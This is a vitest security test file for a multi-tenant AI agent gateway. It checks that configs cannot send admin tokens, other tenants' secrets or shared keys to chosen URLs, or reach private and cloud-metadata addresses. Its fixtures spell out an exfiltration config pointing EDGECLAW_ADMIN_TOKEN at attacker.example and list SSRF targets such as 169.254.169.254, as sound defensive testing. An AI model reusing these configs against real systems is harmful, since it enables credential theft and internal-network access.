// Every config field that names a secret or a URL, against every credential a tenant does not own
// and every address it may not reach: a tenant can never make the gateway send a credential that
// is not its own (an EDGECLAW_* secret, an unshared deployment secret, another tenant's secret, a
// shared secret to a URL the tenant chose) nor send anything to a private address. Refused when the
// config is saved (400 with the field's path) and again at every call, for configs that reached
// D1 some other way (written before these rules, or straight into the database).
import { env } from 'cloudflare:test'
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js'
import { beforeAll, describe, expect, it } from 'vitest'
import { AgentConfig } from '../../src/agents/config'
import { AgentLoop } from '../../src/agents/loop'
import { type HealthBackend, HealthView } from '../../src/agents/models/health'
import type { AgentSnapshot } from '../../src/agents/runner'
import { credentialsFromEnv } from '../../src/db/credentials'
import { createGateway } from '../../src/gateway/app'
import { SandboxConfig } from '../../src/sandbox/config'
import { guardedFetch, OutboundRefused } from '../../src/security/outbound'
import { checkUrl, tenantUrlRules } from '../../src/security/ssrf'
import { ToolsConfig } from '../../src/tools/config'
import { createToolbox, type ToolboxEnv } from '../../src/tools/toolbox'
import { silentLogger } from '../fakes/logs'
import { serveMcp } from '../fakes/mcp-server'
import { anthropic, type Exchange, openai, scriptedFetch } from '../fakes/provider-wire'
import { problem } from '../helpers'
import { as, key, tenant } from './helpers'

const silent = silentLogger()
const OWN_VALUE = 'sk-own-tenant-a-value-0123456789'
const B_VALUE = 'sk-tenant-b-only-value-0123456789'
const SHARED_VALUE = 'sk-ant-shared-deployment-value-0123456789'
/** The deployment shares ANTHROPIC_API_KEY in these tests (set per request / per runtime). */
const SHARING = { EDGECLAW_SHARED_SECRETS: 'ANTHROPIC_API_KEY', ANTHROPIC_API_KEY: SHARED_VALUE }
const LOOPBACK = { EDGECLAW_DEV_ALLOW_LOOPBACK: '1' }

/** Credentials the tenant `out-a` does not own, each with its value as this deployment holds it. */
const NOT_OWNED: [string, string][] = [
	['EDGECLAW_ADMIN_TOKEN', env.EDGECLAW_ADMIN_TOKEN],
	['EDGECLAW_SECRETS_KEY', env.EDGECLAW_SECRETS_KEY],
	['EDGECLAW_AUDIT_KEY', env.EDGECLAW_AUDIT_KEY],
	['TEST_PROVIDER_KEY', (env as unknown as Record<string, string>).TEST_PROVIDER_KEY ?? ''],
	['B_ONLY_KEY', B_VALUE],
]

let operator: string

beforeAll(async () => {
	await tenant('out-a')
	await tenant('out-b')
	operator = (await key('out-a', 'operator')).secret
	const adminA = (await key('out-a', 'admin')).secret
	const adminB = (await key('out-b', 'admin')).secret
	for (const [token, name, value] of [
		[adminA, 'OWN_KEY', OWN_VALUE],
		[adminB, 'B_ONLY_KEY', B_VALUE],
	] as const) {
		const res = await as(token, `/v1/secrets/${name}`, { method: 'PUT', json: { value } })
		if (res.status !== 201) throw new Error(`PUT ${name}: ${res.status} ${await res.text()}`)
	}
})

// ── the fields, as config fragments ─────────────────────────────────────────────────────────

/** `sharedOk`: the shared ANTHROPIC_API_KEY may go there (Anthropic's own endpoint). */
type Field = { label: string; sharedOk: boolean; config: (secret: string) => object; path: string }

/** Every place a config names a secret (path relative to the request body). */
const SECRET_FIELDS: Field[] = [
	{
		label: 'openai-compatible profile',
		sharedOk: false,
		path: 'config.providers.x.profiles.0.secret',
		config: (secret) => ({
			model: { primary: 'x:some-model' },
			providers: {
				x: {
					kind: 'openai-compatible',
					baseURL: 'https://llm.example.com/v1',
					profiles: [{ id: 'p', secret }],
				},
			},
		}),
	},
	{
		label: 'anthropic profile with a custom base URL',
		sharedOk: false,
		path: 'config.providers.x.profiles.0.secret',
		config: (secret) => ({
			model: { primary: 'x:claude-sonnet-4-5' },
			providers: {
				x: {
					kind: 'anthropic',
					baseURL: 'https://proxy.example.com/v1',
					profiles: [{ id: 'p', secret }],
				},
			},
		}),
	},
	{
		label: 'anthropic profile at the official endpoint',
		sharedOk: true,
		path: 'config.providers.x.profiles.0.secret',
		config: (secret) => ({
			model: { primary: 'x:claude-sonnet-4-5' },
			providers: { x: { kind: 'anthropic', profiles: [{ id: 'p', secret }] } },
		}),
	},
	{
		label: "openai profile at OpenAI's official endpoint",
		sharedOk: false,
		path: 'config.providers.x.profiles.0.secret',
		config: (secret) => ({
			model: { primary: 'x:gpt-4o-mini' },
			providers: { x: { kind: 'openai', profiles: [{ id: 'p', secret }] } },
		}),
	},
	{
		label: 'MCP server secret',
		sharedOk: false,
		path: 'config.tools.mcp.0.secret',
		config: (secret) => ({
			model: { primary: 'offline:echo' },
			tools: { mcp: [{ id: 'srv', url: 'https://mcp.example.com/mcp', secret }] },
		}),
	},
]

/** Every place a config chooses a URL. */
const URL_FIELDS: { label: string; path: string; config: (url: string) => object }[] = [
	{
		label: 'provider base URL',
		path: 'config.providers.x.baseURL',
		config: (url) => ({
			model: { primary: 'x:some-model' },
			providers: { x: { kind: 'openai-compatible', baseURL: url } },
		}),
	},
	{
		label: 'built-in provider base URL',
		path: 'config.providers.x.baseURL',
		config: (url) => ({
			model: { primary: 'x:claude-sonnet-4-5' },
			providers: {
				x: { kind: 'anthropic', baseURL: url, profiles: [{ id: 'p', secret: 'OWN_KEY' }] },
			},
		}),
	},
	{
		label: 'MCP server URL',
		path: 'config.tools.mcp.0.url',
		config: (url) => ({ model: { primary: 'offline:echo' }, tools: { mcp: [{ id: 's', url }] } }),
	},
]

const PRIVATE_URLS = [
	'https://169.254.169.254/latest/meta-data',
	'https://[fd00:ec2::254]/v1',
	'https://10.0.0.1/v1',
	'https://172.16.0.5/v1',
	'https://192.168.1.1/v1',
	'https://[fe80::1]/v1',
	'https://[::ffff:10.0.0.1]/v1',
	'https://metadata.google.internal/v1',
]
const LOOPBACK_URLS = ['https://127.0.0.1/v1', 'https://[::1]:8443/v1', 'https://localhost/v1']

let seq = 0
async function save(config: object, over: Record<string, string> = {}, token = operator) {
	const res = await createGateway().request(
		'/v1/agents',
		{
			method: 'POST',
			headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
			body: JSON.stringify({ id: `out-${++seq}`, name: 'outbound', config }),
		},
		{ ...env, ...over },
	)
	const body = res.status === 400 ? await problem(res) : await res.json()
	const paths = ((body as { errors?: { path: string }[] }).errors ?? []).map((e) => e.path)
	return { status: res.status, paths, text: JSON.stringify(body) }
}

describe('saving a config refuses every credential the tenant does not own', () => {
	for (const field of SECRET_FIELDS) {
		it(`${field.label}: 400 with the path for each, 201 for its own secret`, async () => {
			for (const [name] of NOT_OWNED) {
				const saved = await save(field.config(name))
				expect(saved.status, `${field.label} ${name}`).toBe(400)
				expect(saved.paths, `${field.label} ${name}`).toEqual([field.path])
			}
			// The shared secret: only where the request goes to the official endpoint.
			const shared = await save(field.config('ANTHROPIC_API_KEY'), SHARING)
			if (field.sharedOk) expect(shared.status).toBe(201)
			else {
				expect(shared.status).toBe(400)
				expect(shared.paths).toEqual([field.path])
				expect(shared.text).toContain('PUT /v1/secrets/ANTHROPIC_API_KEY')
			}
			expect((await save(field.config('OWN_KEY'))).status).toBe(201)
		})
	}

	it("a built-in provider's default key: the tenant's own, or a shared one at the official endpoint", async () => {
		const builtin = {
			model: { primary: 'offline:echo', fallbacks: ['anthropic:claude-sonnet-4-5'] },
		}
		const refused = await save(builtin)
		expect(refused.status).toBe(400)
		expect(refused.paths).toEqual(['config.model.fallbacks.0'])
		expect(refused.text).toContain('PUT /v1/secrets/ANTHROPIC_API_KEY')
		// An unshared deployment secret of that name is not the tenant's.
		expect((await save(builtin, { ANTHROPIC_API_KEY: SHARED_VALUE })).status).toBe(400)
		expect((await save(builtin, SHARING)).status).toBe(201)
	})

	it('the attack, exactly: an operator names EDGECLAW_ADMIN_TOKEN at an http URL → 400, nothing saved', async () => {
		const body = {
			id: 'exfil',
			name: 'exfil',
			config: {
				model: { primary: 'x:gpt' },
				providers: {
					x: {
						kind: 'openai-compatible',
						baseURL: 'http://attacker.example/v1',
						profiles: [{ id: 'p', secret: 'EDGECLAW_ADMIN_TOKEN' }],
					},
				},
			},
		}
		const res = await as(operator, '/v1/agents', { method: 'POST', json: body })
		expect(res.status).toBe(400)
		const p = await problem(res)
		expect((p.errors as { path: string }[]).map((e) => e.path).sort()).toEqual([
			'config.providers.x.baseURL',
			'config.providers.x.profiles.0.secret',
		])
		expect(JSON.stringify(p)).not.toContain(env.EDGECLAW_ADMIN_TOKEN)
		expect((await as(operator, '/v1/agents/exfil')).status).toBe(404)
		// Replacing an existing agent is held to the same rules; so is an MCP server's secret.
		const replaced = await as(operator, '/v1/agents/main', {
			method: 'PUT',
			json: {
				name: 'main',
				config: {
					model: { primary: 'offline:echo' },
					tools: {
						mcp: [{ id: 'm', url: 'https://attacker.example/mcp', secret: 'EDGECLAW_ADMIN_TOKEN' }],
					},
				},
			},
		})
		expect(replaced.status).toBe(400)
		expect(((await problem(replaced)).errors as { path: string }[])[0]?.path).toBe(
			'config.tools.mcp.0.secret',
		)
	})
})

describe('saving a config refuses private and plain-http URLs', () => {
	for (const field of URL_FIELDS) {
		it(`${field.label}: private, metadata and loopback addresses, http`, async () => {
			for (const url of [...PRIVATE_URLS, ...LOOPBACK_URLS, 'http://llm.example.com/v1']) {
				const saved = await save(field.config(url))
				expect(saved.status, url).toBe(400)
				expect(saved.paths, url).toContain(field.path)
			}
			expect((await save(field.config('https://llm.example.com/v1'))).status).toBe(201)
		})

		it(`${field.label}: EDGECLAW_DEV_ALLOW_LOOPBACK admits loopback (http too), never a private range`, async () => {
			for (const url of [
				'http://127.0.0.1:8080/v1',
				'http://localhost:8080/v1',
				'http://[::1]:8080/v1',
			]) {
				expect((await save(field.config(url), LOOPBACK)).status, url).toBe(201)
			}
			for (const url of [...PRIVATE_URLS, 'http://llm.example.com/v1', 'http://10.0.0.1/v1']) {
				const saved = await save(field.config(url), LOOPBACK)
				expect(saved.status, url).toBe(400)
			}
		})
	}
})

// ── call time: configs that reached D1 without passing the save check ───────────────────────

function runtime(over: Record<string, string> = {}) {
	const e = { ...env, ...over }
	const wire = scriptedFetch((x) =>
		new URL(x.url).host.includes('anthropic')
			? { stream: anthropic.text('hello') }
			: { stream: openai.text('hello') },
	)
	const view = new HealthView(
		env.MODEL_HEALTH.getByName(crypto.randomUUID()) as unknown as HealthBackend,
		silent,
		0,
	)
	const loop = new AgentLoop({
		health: () => view,
		env: e,
		credentials: credentialsFromEnv(e),
		urlRules: tenantUrlRules(e),
		logger: silent,
		fetch: wire.fetch,
		sleep: async () => {},
	})
	return { loop, exchanges: wire.exchanges }
}

async function turn(loop: AgentLoop, config: object, tenantId = 'out-a') {
	const agent: AgentSnapshot = { tenantId, id: 'a', version: 1, config: AgentConfig.parse(config) }
	return loop
		.runTurn(
			{
				runId: 'r',
				session: { tenantId, agentId: 'a', sessionKey: 's' },
				agent,
				transcript: [],
				input: [{ role: 'user', content: [{ type: 'text', text: 'hi' }] }],
				signal: new AbortController().signal,
				deadline: Date.now() + 30_000,
				tools: [],
			},
			{
				delta: () => {},
				tool: () => {},
				invoke: async () => ({ ok: false, text: 'no tools' }),
				steer: () => [],
				hasSteer: () => false,
				commit: () => {},
				call: () => {},
			},
		)
		.then(
			(result) => ({ text: result.text, error: undefined }),
			(error: Error & { code?: string }) => ({ text: undefined, error }),
		)
}

const carries = (exchanges: Exchange[], value: string) =>
	exchanges.some((x) => JSON.stringify(x).includes(value))

describe('at call time the gateway never sends a credential the tenant does not own', () => {
	it('the attack: EDGECLAW_ADMIN_TOKEN to an attacker URL is never sent, nor any other', async () => {
		for (const field of SECRET_FIELDS.filter((f) => f.label !== 'MCP server secret')) {
			for (const [name, value] of NOT_OWNED) {
				const { loop, exchanges } = runtime(SHARING)
				const t = await turn(loop, field.config(name))
				expect(t.error?.code, `${field.label} ${name}`).toBe('models_exhausted')
				expect(t.error?.message).toContain(name)
				expect(carries(exchanges, value), `${field.label} ${name}`).toBe(false)
				expect(exchanges, `${field.label} ${name}`).toEqual([])
			}
		}
	})

	it("a shared secret goes to the official endpoint only; the tenant's own goes where it chose", async () => {
		const official = runtime(SHARING)
		const ok = await turn(official.loop, { model: { primary: 'anthropic:claude-sonnet-4-5' } })
		expect(ok.text).toBe('hello')
		expect(official.exchanges.map((x) => new URL(x.url).origin)).toEqual([
			'https://api.anthropic.com',
		])
		expect(official.exchanges[0]?.headers['x-api-key']).toBe(SHARED_VALUE)

		const custom = runtime(SHARING)
		const refused = await turn(custom.loop, SECRET_FIELDS[1]?.config('ANTHROPIC_API_KEY') ?? {})
		expect(refused.error?.message).toContain('shared deployment secret')
		expect(custom.exchanges).toEqual([])

		const own = runtime(SHARING)
		const mine = await turn(own.loop, SECRET_FIELDS[0]?.config('OWN_KEY') ?? {})
		expect(mine.text).toBe('hello')
		expect(own.exchanges[0]?.headers.authorization).toBe(`Bearer ${OWN_VALUE}`)
		// The same config in another tenant does not reach out-a's secret.
		const foreign = runtime(SHARING)
		const b = await turn(foreign.loop, SECRET_FIELDS[0]?.config('OWN_KEY') ?? {}, 'out-b')
		expect(b.error?.code).toBe('models_exhausted')
		expect(foreign.exchanges).toEqual([])
	})

	it('sends nothing to a private or loopback base URL, even without a key', async () => {
		for (const url of [...PRIVATE_URLS, ...LOOPBACK_URLS, 'http://llm.example.com/v1']) {
			const { loop, exchanges } = runtime()
			const t = await turn(loop, URL_FIELDS[0]?.config(url) ?? {})
			expect(t.error?.message, url).toContain('URL refused')
			expect(exchanges, url).toEqual([])
		}
		const { loop, exchanges } = runtime(LOOPBACK)
		const t = await turn(loop, URL_FIELDS[0]?.config('https://10.0.0.1/v1') ?? {})
		expect(t.error?.code).toBe('models_exhausted')
		expect(exchanges).toEqual([])
	})

	it("MCP: a server gets only the tenant's own secret, never a deployment or shared one", async () => {
		const remote = serveMcp(() => {
			const server = new McpServer({ name: 'probe', version: '1.0.0' })
			server.registerTool('ping', { description: 'Answers pong.' }, async () => ({
				content: [{ type: 'text', text: 'pong' }],
			}))
			return server
		})
		const toolbox = (over: Record<string, string> = {}) =>
			createToolbox({ ...env, ...over } as unknown as ToolboxEnv, {
				logger: silent,
				waitUntil: () => {},
				fetch: remote.fetch,
			})
		const agentWith = (id: string, secret: string, tenantId = 'out-a') => ({
			tenantId,
			id: 'a',
			version: 1,
			config: {
				tools: ToolsConfig.parse({
					allow: ['group:mcp'],
					mcp: [{ id, url: 'https://mcp.attacker.example/mcp', secret }],
				}),
				sandbox: SandboxConfig.parse({}),
			},
		})
		let n = 0
		for (const [name] of [...NOT_OWNED, ['ANTHROPIC_API_KEY', SHARED_VALUE] as const]) {
			const tools = await toolbox(SHARING).toolsFor(agentWith(`deny-${n++}`, name))
			expect(
				tools.some((t) => t.name.endsWith('_ping')),
				name,
			).toBe(false)
			expect(remote.requests, name).toHaveLength(0)
		}
		const tools = await toolbox().toolsFor(agentWith('own', 'OWN_KEY'))
		expect(tools.map((t) => t.name)).toContain('own_ping')
		expect(remote.requests.length).toBeGreaterThan(0)
		for (const r of remote.requests)
			expect(r.headers.get('authorization')).toBe(`Bearer ${OWN_VALUE}`)
		// Another tenant naming the same secret gets nothing (and no cached tools of out-a's).
		const before = remote.requests.length
		const foreign = await toolbox().toolsFor(agentWith('own', 'OWN_KEY', 'out-b'))
		expect(foreign.some((t) => t.name === 'own_ping')).toBe(false)
		expect(remote.requests.length).toBe(before)
	})
})

describe('the guarded fetch follows redirects itself', () => {
	const guard = (url: string) => checkUrl(url, undefined, { httpsOnly: true })

	it('checks every hop: a redirect to a metadata or private address is refused before it is sent', async () => {
		const seen: string[] = []
		const fetcher: typeof fetch = async (input) => {
			const url = String(input)
			seen.push(url)
			return new Response(null, {
				status: 307,
				headers: { location: 'http://169.254.169.254/latest/meta-data/iam' },
			})
		}
		const error = await guardedFetch(fetcher, guard)('https://llm.example.com/v1/chat', {
			method: 'POST',
			body: '{}',
		}).catch((e: unknown) => e)
		expect(error).toBeInstanceOf(OutboundRefused)
		expect(seen).toEqual(['https://llm.example.com/v1/chat'])
	})

	it('drops credentials on a redirect to another origin, keeps method and body on 307', async () => {
		const seen: {
			url: string
			auth: string | null
			key: string | null
			method: string
			body: string
		}[] = []
		const fetcher: typeof fetch = async (input, init) => {
			const request = new Request(input, init)
			seen.push({
				url: request.url,
				auth: request.headers.get('authorization'),
				key: request.headers.get('x-api-key'),
				method: request.method,
				body: await request.text(),
			})
			if (seen.length === 1) {
				return new Response(null, { status: 307, headers: { location: '/v2/chat' } })
			}
			if (seen.length === 2) {
				return new Response(null, {
					status: 308,
					headers: { location: 'https://elsewhere.example.net/chat' },
				})
			}
			return new Response('ok')
		}
		const res = await guardedFetch(fetcher, guard)('https://llm.example.com/v1/chat', {
			method: 'POST',
			headers: { authorization: `Bearer ${OWN_VALUE}`, 'x-api-key': OWN_VALUE },
			body: '{"a":1}',
		})
		expect(await res.text()).toBe('ok')
		expect(seen.map((s) => [s.url, s.auth, s.key, s.method, s.body])).toEqual([
			['https://llm.example.com/v1/chat', `Bearer ${OWN_VALUE}`, OWN_VALUE, 'POST', '{"a":1}'],
			['https://llm.example.com/v2/chat', `Bearer ${OWN_VALUE}`, OWN_VALUE, 'POST', '{"a":1}'],
			['https://elsewhere.example.net/chat', null, null, 'POST', '{"a":1}'],
		])
	})

	it('stops after 5 redirects', async () => {
		let hops = 0
		const fetcher: typeof fetch = async () => {
			hops++
			return new Response(null, { status: 302, headers: { location: `/hop/${hops}` } })
		}
		const error = await guardedFetch(
			fetcher,
			guard,
		)('https://llm.example.com/').catch((e: unknown) => e)
		expect(error).toMatchObject({ reason: 'too_many_redirects' })
		expect(hops).toBe(6)
	})
})
